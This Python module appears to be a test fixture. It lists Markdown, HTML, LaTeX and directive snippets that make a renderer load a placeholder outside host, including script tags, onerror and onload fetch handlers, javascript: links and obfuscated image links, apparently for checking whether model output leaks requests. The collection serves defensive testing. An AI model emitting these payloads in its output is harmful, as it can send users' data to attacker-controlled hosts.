"""Markup that would fetch, link or load, as a model, a speaker, a slide or a title may hold it.

`{there}` stands for an address outside of the page, without its scheme: host:port.
"""

PAYLOADS = {
    "picture": "![x](http://{there}/picture)",
    "picture in a link": "[![x](http://{there}/inner)](http://{there}/outer)",
    "picture, by reference": "![x][r]\n\n[r]: http://{there}/reference",
    "picture, by its label": "![r]\n\n[r]: <http://{there}/label>",
    "picture, two lines": "![x\ny](http://{there}/lines\n'title')",
    "picture, nested brackets": "![a [b] ![c](http://{there}/nested)](http://{there}/nest)",
    "picture, no scheme": "![x](//{there}/bare)",
    "picture, in a table": "| a | b |\n|---|---|\n| ![x](http://{there}/cell) | c |",
    "picture, in a list": "- one\n  1. ![x](http://{there}/item)",
    "picture, escaped late": "!\\[x]\\(no) ![x\\](http://{there}/escaped) ![\\]](http://{there}/bracket)",
    "picture, entities": "&#33;&#91;x&#93;&#40;http://{there}/entity&#41; ![x](http&#58;//{there}/colon)",
    "picture, unseen letters": "!\u200b[x]\u200b(http://{there}/zero) ![x](http://{there}/z\u200bero)",
    "picture, with a time": "![0:02](http://{there}/time) ![x [0:02]](http://{there}/time-in)",
    "link": "[read more](http://{there}/link)",
    "link with a title": '[read more](http://{there}/titled "Click here")',
    "link, no scheme": "[read more](//{there}/noscheme)",
    "link, to be run": "[read more](javascript:fetch('http://{there}/run'))",
    "link, as data": "[read more](data:text/html,<img src=http://{there}/data>) ![x](data:image/svg+xml,<svg/>)",
    "address": "http://{there}/address and https://{there}/address",
    "address in brackets": "<http://{there}/autolink>",
    "address without scheme": "www.{there}/www and WWW.example.com/x",
    "address, escaped": "http:/\\/{there}/slash http\\://{there}/colon www\\.example.com",
    "mail": "me@example.com <me@example.com> mailto:me@example.com",
    "footnote": "said[^1]\n\n[^1]: http://{there}/note ![x](http://{there}/note-picture)",
    "html picture": "<img src=http://{there}/img onerror=fetch('http://{there}/onerror')>",
    "html script": "<script src=http://{there}/script></script><script>fetch('http://{there}/fetch')</script>",
    "html drawing": "<svg onload=fetch('http://{there}/svg')><image href=http://{there}/svg-image /></svg>",
    "html frame": "<iframe src=http://{there}/iframe></iframe><object data=http://{there}/object></object>",
    "html style": "<style>@import 'http://{there}/css';body{background:url(http://{there}/background)}</style>",
    "html link": "<a href=http://{there}/a>read more</a><base href=http://{there}/>",
    "html loading": "<link rel=stylesheet href=http://{there}/sheet><meta http-equiv=refresh content=0;http://{there}/go>",
    "html film": "<video src=http://{there}/video autoplay></video><audio src=http://{there}/audio autoplay></audio>",
    "html in a fence": "```html\n<img src=http://{there}/fenced>\n```\n<img src=http://{there}/after>",
    "directive": ":red[![x](http://{there}/directive)] :help[![x](http://{there}/help)] ::img[x]{src=http://{there}/i}",
    "directive, block": ":::note\n![x](http://{there}/block)\n:::",
    "signs": ":smile: :material/link: :streamlit: [x](http://{there}/emoji) :red-badge[http://{there}/badge]",
    "formula": "$\\href{http://{there}/href}{x}$ $$\\includegraphics{http://{there}/tex}$$ $\\url{http://{there}/u}$",
    "formula in a fence": "```math\n\\includegraphics{http://{there}/math}\n```",
    "broken fence": "```\n![x](http://{there}/open)\n``` \n~~~\n```\n![x](http://{there}/broken)",
    "broken code": "`a ``b` ![x](http://{there}/code) `` ![x](http://{there}/code2) `$`",
    "title that is markup": '# ![x](http://{there}/heading) "]( http://{there}/quote )',
    "marked word": "plants(//{there}/word) \\plants(//{there}/escape) !plants(//{there}/bang) plants](//{there}/end)",
}


def payloads(there: str) -> dict[str, str]:
    """name -> markup that leads to `there`, which is a host:port."""
    return {name: text.replace("{there}", there) for name, text in PAYLOADS.items()}
